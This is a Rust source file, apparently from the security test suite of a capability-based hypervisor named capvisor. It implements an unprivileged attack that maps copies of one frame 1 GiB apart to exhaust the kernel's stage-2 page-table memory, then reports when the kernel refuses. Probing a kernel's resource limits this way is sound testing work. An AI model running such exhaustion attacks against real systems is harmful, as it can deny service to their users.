//! The attack, at EL0.

use capvisor_ipc::abi::KernelError;
use capvisor_rt::{CPtr, Rights, println, sys};
use hostile_common::abi::IPA_BITS;
use hostile_common::scan::Inventory;

/// 1 GiB: a level-1 entry of a service's stage-2 tables.
const GIB: u64 = 1 << 30;

/// Maps copies of one frame 1 GiB apart until refused, and prints how far it got.
pub fn run() -> u64 {
    let mut caps = Inventory::scan();
    println!(
        "pool: holding {} untyped capabilities",
        caps.untyped.as_slice().len()
    );
    let Some(frame) = caps.frames.first() else {
        println!("pool: no frame to copy");
        return 1;
    };
    let (cnode, space) = (CPtr::new(caps.cnode), CPtr::new(caps.space));
    let (mut mapped, mut remapped, mut last) = (0u64, 0u64, None);
    let mut refusal = None;
    for gib in 1..1u64 << (IPA_BITS - 30) {
        let copy = match (caps.slot(), last) {
            (Some(slot), _) => match sys::copy(cnode, slot, CPtr::new(frame), Rights::READ) {
                Ok(()) => slot,
                Err(error) => {
                    println!("pool: copy refused: {error:?}");
                    break;
                }
            },
            // No slot left: the last copy moves on (its tables stay where it was).
            (None, Some(slot)) => {
                let _ = sys::unmap(CPtr::new(slot));
                remapped += 1;
                slot
            }
            (None, None) => {
                println!("pool: no free slot");
                break;
            }
        };
        match sys::map(CPtr::new(copy), space, gib * GIB, 0b001, 0) {
            Ok(()) => {
                mapped += 1;
                last = Some(copy);
            }
            Err(KernelError::NotEnoughMemory) => {
                refusal = Some(KernelError::NotEnoughMemory);
                break;
            }
            Err(error) => println!("pool: map at {:#x}: {error:?}", gib * GIB),
        }
    }
    match refusal {
        Some(error) => println!(
            "pool: mapped {mapped} copies of a frame 1 GiB apart ({remapped} by moving one), \
             then Map: Err({error:?})"
        ),
        None => println!(
            "pool: mapped {mapped} copies of a frame 1 GiB apart ({remapped} by moving one), \
             never refused"
        ),
    }
    0
}
